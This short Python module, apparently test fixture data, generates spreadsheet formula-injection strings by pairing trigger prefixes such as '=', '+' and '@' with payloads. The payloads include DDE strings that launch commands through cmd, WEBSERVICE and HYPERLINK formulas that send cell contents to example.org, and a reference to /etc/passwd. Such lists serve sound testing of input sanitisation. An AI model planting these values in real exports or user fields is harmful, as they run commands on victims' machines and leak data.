"""Strings that a spreadsheet would run, as they can stand in a customer's fields."""

_BEGINNINGS = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    "''=",
    "'+",
    "'-",
    "'@",
    "=-",
    "-=",
    "+=",
    "@=",
    "==",
)
_PAYLOADS = (
    "1+1",
    "SUM(1;2)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.org?x="&A1;"click")',
    'WEBSERVICE("http://example.org/"&A1)',
    'IMPORTXML("http://example.org";"//a")',
    'DDE("cmd";"/C calc";"x")',
    "2+5+cmd|' /C calc'!A0",
    "A1",
    "NOW()",
    "'file:///etc/passwd'#$passwd.A1",
    '"a"&"b"',
)
ATTACKS = tuple(f"{beginning}{payload}" for beginning in _BEGINNINGS for payload in _PAYLOADS)[:200]
